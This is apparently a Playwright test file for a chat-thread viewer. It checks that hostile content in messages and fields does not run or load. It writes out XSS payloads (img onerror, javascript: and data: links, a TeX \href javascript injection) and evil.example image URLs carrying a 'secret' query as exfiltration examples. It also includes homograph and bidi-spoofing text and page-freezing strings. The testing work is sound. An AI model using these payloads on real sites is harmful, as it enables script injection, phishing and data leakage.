import { aChat, anEvent, aRequest } from './fixtures/events';
import { HOSTILE_TEXTS, sanitizerPayloads } from './fixtures/hostile-texts';
import { expect, test } from './fixtures/test';
import { setTrap } from './fixtures/trap';
import { ThreadPage } from './pages/thread-page';

const END = 'the end of the thread';

test.describe('in a tall window', () => {
  // Many rows at once, so that the whole thread is seen in a few steps.
  test.use({ viewport: { width: 1280, height: 2_000 } });

  test('none of the payloads of a sanitizer runs, calls out or draws anything but text', async ({
    page,
    colloquy,
  }, testInfo) => {
    const payloads = sanitizerPayloads();
    testInfo.skip(payloads === null, 'no corpus');
    const texts = (payloads ?? []).map(({ payload }) => payload);
    await colloquy.post([...texts.map((text) => aChat(text)), aChat(END)]);
    await colloquy.post(texts.map((text, index) => inAnotherField(text, index)));
    const trap = await setTrap(page, colloquy.url);
    const thread = new ThreadPage(page);

    for (const threadId of ['thread:t1', 'thread:fields']) {
      await page.goto(`/t/${threadId}`);
      await expect(thread.messages.getByRole('listitem').first()).toBeVisible();
      await readToTheTop(thread);
    }

    await trap.expectEmpty();
  });

  test('none of them runs or calls out as code, as a formula or as a change', async ({
    page,
    colloquy,
  }, testInfo) => {
    const payloads = sanitizerPayloads();
    testInfo.skip(payloads === null, 'no corpus');
    const texts = [...(payloads ?? []).map(({ payload }) => payload), ...HOSTILE_TEXTS];
    await colloquy.post([
      ...texts.map((text, index) => aChat(inAnotherForm(text, index))),
      aChat('```python\nreturn 1\n```\n\n\\(x^2\\)', { id: 'msg_last' }),
      aChat(END),
    ]);
    const trap = await setTrap(page, colloquy.url);
    const thread = new ThreadPage(page);

    await thread.open('thread:t1', END);
    await expect(thread.messages.locator('.text-code-keyword').first()).toBeVisible();
    await expect(thread.messages.locator('math').first()).toBeVisible();
    await readToTheTop(thread);

    await trap.expectEmpty();
  });

  test('no hostile text runs or calls out, in whatever field of a message it stands', async ({
    page,
    colloquy,
  }) => {
    const trap = await setTrap(page, colloquy.url);
    const thread = new ThreadPage(page);
    await colloquy.post([
      ...HOSTILE_TEXTS.flatMap((text) => FIELDS.map((inField) => inField(text))),
      aChat(END, { thread_id: 'thread:fields' }),
    ]);

    await thread.open('thread:fields', END);
    await readToTheTop(thread);

    await trap.expectEmpty();
  });
});

for (const side of ['message', 'raw', 'canonical', 'protocols', 'conformance']) {
  test(`the side "${side}" of the inspector runs and loads nothing that it shows`, async ({
    page,
    colloquy,
  }) => {
    await colloquy.post(HOSTILE_TEXTS.map((text) => aChat(text, { meta: { note: text } })));
    const trap = await setTrap(page, colloquy.url);
    const { inspector } = new ThreadPage(page);

    await page.goto(`/t/thread:t1?event=1&tab=${side}`);
    for (let seq = 1; seq < HOSTILE_TEXTS.length; seq += 1) {
      await expect(inspector.heading).toHaveText(`Event ${seq}`);
      await expect(inspector.pane.locator('img, iframe, svg image, style, script')).toHaveCount(0);
      await inspector.next.click();
    }

    await trap.expectEmpty();
  });
}

test('no list runs or loads the names that it shows', async ({ page, colloquy }) => {
  const hostile = `<img src=x onerror="window.flag=true"> ![seen](https://evil.example/p.png)`;
  const secret = await colloquy.key({ role: 'agent', agent_id: 'agent:mallory' });
  await colloquy.api(
    'PUT',
    '/agents/agent%3Amallory',
    {
      v: 'clutch/0.1',
      agent_id: 'agent:mallory',
      display: { name: hostile, desc: hostile },
      capabilities: [{ id: hostile, version: hostile, tags: [hostile], tools: [hostile] }],
    },
    secret,
  );
  await colloquy.post([
    aRequest(hostile, {
      thread_id: hostile,
      run_id: hostile,
      task_id: hostile,
      parent_task_id: `${hostile} above`,
      meta: { ui_channel: hostile },
      from: { agent_id: 'agent:mallory', role: hostile },
    }),
  ]);
  const trap = await setTrap(page, colloquy.url);
  const id = encodeURIComponent(hostile);

  for (const path of [
    `/c/${id}`,
    `/t/${id}`,
    `/r/${id}`,
    '/runs',
    '/agents',
    '/a/agent%3Amallory',
  ]) {
    await page.goto(path);
    await expect(
      page
        .getByRole('main')
        .getByText(/<img src=x onerror/)
        .first(),
    ).toBeVisible();
    await expect(page.locator('main img')).toHaveCount(0);
  }
  await page.keyboard.press('/');
  await page.keyboard.type('mallory');
  await expect(page.getByRole('option', { name: 'mallory', exact: true })).toBeVisible();

  await trap.expectEmpty();
});

test('a link opens only where it says, and says where it goes when its words say otherwise', async ({
  page,
  colloquy,
}) => {
  await colloquy.post([
    aChat(
      '[bad](javascript:window.flag=true) [worse](data:text/html,x) [good](https://example.org/a)',
    ),
    aChat('[https://bank.example](https://evil.example/login) and <https://good@evil.example>'),
    aChat('[letters](https://xn--pple-43d.example/)'),
  ]);
  const thread = new ThreadPage(page);
  await thread.open('thread:t1', 'good');

  await expect(thread.messages.getByRole('link', { name: /^(bad|worse)$/ })).toHaveCount(0);
  const good = thread.messages.getByRole('link', { name: 'good', exact: true });
  await expect(good).toHaveAttribute('href', 'https://example.org/a');
  await expect(good).toHaveAttribute('rel', 'noopener noreferrer nofollow ugc');
  await expect(good).toHaveAttribute('target', '_blank');
  await expect(thread.row('bank.example')).toContainText('(opens evil.example)');
  await expect(thread.row('letters')).toContainText('(opens xn--pple-43d.example)');
});

test('a picture is not loaded and says where it would come from', async ({ page, colloquy }) => {
  await colloquy.post([aChat('![a chart](https://evil.example/chart.png?q=secret)')]);
  const trap = await setTrap(page, colloquy.url);
  const thread = new ThreadPage(page);

  await page.goto('/t/thread:t1');

  await expect(thread.row('Picture not loaded: a chart')).toContainText(
    'https://evil.example/chart.png?q=secret',
  );
  await trap.expectEmpty();
});

test('characters that cannot be seen are shown by name, and copying takes the text as it was', async ({
  page,
  colloquy,
}) => {
  const texts = {
    RLO: 'safe \u202egnp.exe',
    ZWSP: 'one\u200bword',
    ESC: 'red \u001b[31m alert',
    'U+E0041': 'tagged \u{e0041}',
    LRI: 'isolated \u2066 text',
  };
  await colloquy.post(Object.values(texts).map((text) => aChat(text)));
  const thread = new ThreadPage(page);
  await page.goto('/t/thread:t1');

  for (const [name, text] of Object.entries(texts)) {
    const mark = thread.messages.getByTitle(`Hidden character ${name}`);
    await expect(mark).toHaveCSS('unicode-bidi', 'isolate');
    await expect.poll(() => mark.evaluate(drawnName), `${name} is drawn`).toBe(name);
    expect(await mark.evaluate(selectedAround), `${name} is copied`).toBe(text);
  }
});

/** What copying takes of the line in which a mark stands. */
function selectedAround(mark: Element): string {
  if (mark.parentElement === null) return '';
  getSelection()?.selectAllChildren(mark.parentElement);
  return String(getSelection());
}

/** What stands in the place of a hidden character, if it takes up room there. */
function drawnName(mark: Element): string {
  const { content } = getComputedStyle(mark, '::before');
  return mark.getBoundingClientRect().width > 0 ? content.replaceAll('"', '') : '';
}

test('an agent is not taken for a person, whatever it calls itself', async ({ page, colloquy }) => {
  await colloquy.post([aChat('trust me', { from: { agent_id: 'agent:mallory', role: 'human' } })]);
  const thread = new ThreadPage(page);

  await thread.open('thread:t1', 'trust me');

  await expect(thread.row('trust me')).toContainText('calls itself human');
});

/** The longest that an event may be, on one line. */
const LONG = 250_000;

test('texts that are made to stop a page do not stop it', async ({ page, colloquy }) => {
  await colloquy.post([
    aChat('a'.repeat(LONG)),
    ...['*', '[', '>', '`', '_a', '![', '<', '|', '&', '- ', '\\', '~', '#'].map((mark) =>
      aChat(mark.repeat(LONG / 4 / mark.length)),
    ),
    aChat('\u200b'.repeat(LONG / 4)),
    aChat(`e${'\u0301'.repeat(LONG / 4)}`),
    aChat('a\u202e'.repeat(LONG / 8)),
    aChat('| a '.repeat(5_000).concat('\n').repeat(2)),
    anEvent({ type: 'task.result', payload: { title: 'deep', value: nested(50) } }),
    anEvent({ type: 'tool.call', payload: { tool: 'x', args: wide(8_000) } }),
    aChat(END),
  ]);
  const thread = new ThreadPage(page);

  await thread.open('thread:t1', END);
  await thread.composer.box.fill('still here');
  await thread.composer.sendAtOnce();
  await expect(thread.said('still here')).toBeVisible();
  await readToTheTop(thread);

  await page.getByRole('link', { name: 'Run', exact: true }).click();
  await expect(page.getByRole('tree', { name: 'Graph of the tasks' })).toBeVisible();
});

test('a megabyte on one line is shown from its beginning, and whole on demand', async ({
  page,
  colloquy,
}) => {
  const turns = Array.from({ length: 5 }, () => ({
    role: 'WebSurfer',
    content: 'x'.repeat(200_000),
  }));
  await colloquy.ingest('transcript', [{ question: 'How long?', history: turns }]);
  const [opening] = await colloquy.events();
  const thread = new ThreadPage(page);

  await page.goto('/c/transcripts');
  await page.getByRole('main').getByRole('link', { name: 'How long?' }).click();
  await expect(thread.messages).toContainText('WebSurfer');
  await page.goto(`${new URL(page.url()).pathname}?event=${opening?.seq}&tab=raw`);
  await page.getByRole('button', { name: /Show all 1\.0 MB/ }).click();

  await expect(thread.inspector.pane.getByRole('button', { name: /Show all/ })).toHaveCount(0);
  await thread.inspector.show('Message');
  await expect(thread.inspector.pane).toContainText('How long?');
});

/** Turns the wheel until the first row is seen, so that every row was drawn once, however long the older pages take. */
async function readToTheTop(thread: ThreadPage): Promise<void> {
  const first = thread.messages.locator('[data-index="0"]');
  await expect
    .poll(
      async () => {
        await thread.scroll(-1_500);
        return first.isVisible();
      },
      { timeout: 90_000, intervals: [0] },
    )
    .toBe(true);
}

const IN_FIELDS = { thread_id: 'thread:fields', run_id: 'run:fields' };

/** A message with the text in one of its fields. */
const FIELDS: readonly ((text: string) => unknown)[] = [
  (text) => aRequest(text, { ...IN_FIELDS, payload: { title: text, text }, requires: [text] }),
  (text) =>
    anEvent({
      ...IN_FIELDS,
      type: 'tool.call',
      payload: { tool: text, call_id: text, args: { [text]: text } },
    }),
  (text) => anEvent({ ...IN_FIELDS, type: 'task.error', payload: { code: text, message: text } }),
  (text) =>
    anEvent({
      ...IN_FIELDS,
      type: 'task.result',
      payload: { title: text, findings: [text, text], links: [text], [text]: { [text]: text } },
    }),
  (text) => anEvent({ ...IN_FIELDS, type: 'chat.system', payload: { text } }),
  (text) => anEvent({ ...IN_FIELDS, type: 'task.progress', payload: { percent: 5, note: text } }),
  (text) => anEvent({ ...IN_FIELDS, type: 'task.cancel', payload: { reason: text } }),
  (text) => aChat('a mark', { ...IN_FIELDS, meta: { mark: { kind: text, reason: text } } }),
];

function inAnotherField(text: string, index: number): unknown {
  return FIELDS[index % FIELDS.length]?.(text);
}

/** What is written so is cut by a grammar, read as TeX, or both. */
const FORMS: readonly ((text: string) => string)[] = [
  (text) => `\`\`\`\`\`html\n${text}\n\`\`\`\`\``,
  (text) => `\`\`\`\`\`javascript\nconst a = \`${text}\`;\n\`\`\`\`\``,
  (text) => `\`\`\`\`\`diff\n@@ -1 +1 @@\n-${text}\n+${text}\n\`\`\`\`\``,
  (text) => `\\( \\text{${text}} \\)`,
  (text) => `\\[\n\\href{javascript:window.flag=true}{${text}}\n\\]`,
  (text) => `$$\\htmlStyle{background:url(https://evil.example)}{x}\\includegraphics{${text}}$$`,
  (text) => `\`\`\`\`\`math\n${text}\n\`\`\`\`\``,
];

function inAnotherForm(text: string, index: number): string {
  return FORMS.map((_, at) => FORMS[(index + at) % FORMS.length]?.(text) ?? '')
    .slice(0, 3)
    .join('\n\n');
}

/** An object in an object, so many times. */
function nested(depth: number): unknown {
  return depth === 0 ? 'bottom' : { inner: nested(depth - 1) };
}

/** An object with so many fields. */
function wide(fields: number): Record<string, number> {
  return Object.fromEntries(Array.from({ length: fields }, (_, index) => [`field${index}`, index]));
}
